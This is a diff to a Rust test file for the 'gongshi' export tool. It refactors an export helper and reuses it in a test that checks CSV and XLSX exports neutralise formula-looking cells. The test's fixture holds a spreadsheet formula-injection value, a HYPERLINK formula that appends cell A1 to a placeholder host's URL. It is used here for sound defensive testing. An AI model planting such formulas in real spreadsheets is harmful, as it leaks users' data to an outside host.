@@ -15,11 +15,16 @@ fn repo() -> &'static str {
 
 /// `gongshi export` of the example site into `dir`; returns the file.
 fn export(dir: &Path, format: &str, scope: &str) -> PathBuf {
+    export_from(Path::new(repo()), dir, format, scope)
+}
+
+/// `gongshi export` of the site at `root` into `dir`; returns the file.
+fn export_from(root: &Path, dir: &Path, format: &str, scope: &str) -> PathBuf {
     let out = dir.join(format!("x-{scope}.{format}"));
     let out_s = out.to_str().unwrap();
     let r = gongshi(&[
         "--root",
-        repo(),
+        root.to_str().unwrap(),
         "export",
         "--format",
         format,
@@ -396,7 +401,6 @@ fn validate(root: &Value, schema: &Value, v: &Value, at: &str, errors: &mut Vec<
 #[test]
 fn item07_formula_looking_cells_are_neutralised() {
     let site = base_copy();
-    let root = site.path().to_str().unwrap();
     let risk = site.path().join("content/risks/R-002.md");
     let text = std::fs::read_to_string(&risk).unwrap();
     let title = "=HYPERLINK(\"http://x.test/?\"&A1,\"点此\")";
@@ -414,19 +418,7 @@ fn item07_formula_looking_cells_are_neutralised() {
     std::fs::write(&r3, t3.replace("title: 廉洁意识淡薄", "title: '-2+3'")).unwrap();
     let out = site.path().join("out");
     std::fs::create_dir(&out).unwrap();
-    let csv_path = out.join("r.csv");
-    let r = gongshi(&[
-        "--root",
-        root,
-        "export",
-        "--format",
-        "csv",
-        "--scope",
-        "internal",
-        "-o",
-        csv_path.to_str().unwrap(),
-    ]);
-    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
+    let csv_path = export_from(site.path(), &out, "csv", "internal");
     let bytes = std::fs::read(&csv_path).unwrap();
     let records: Vec<Vec<String>> = csv::ReaderBuilder::new()
         .has_headers(false)
@@ -453,19 +445,7 @@ fn item07_formula_looking_cells_are_neutralised() {
         }
     }
     // the workbook: the same title as a shared string, no formula anywhere
-    let xlsx_path = out.join("r.xlsx");
-    let r = gongshi(&[
-        "--root",
-        root,
-        "export",
-        "--format",
-        "xlsx",
-        "--scope",
-        "internal",
-        "-o",
-        xlsx_path.to_str().unwrap(),
-    ]);
-    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
+    let xlsx_path = export_from(site.path(), &out, "xlsx", "internal");
     let sheet = zip_part(&xlsx_path, "xl/worksheets/sheet1.xml");
     assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
     let strings = zip_part(&xlsx_path, "xl/sharedStrings.xml");
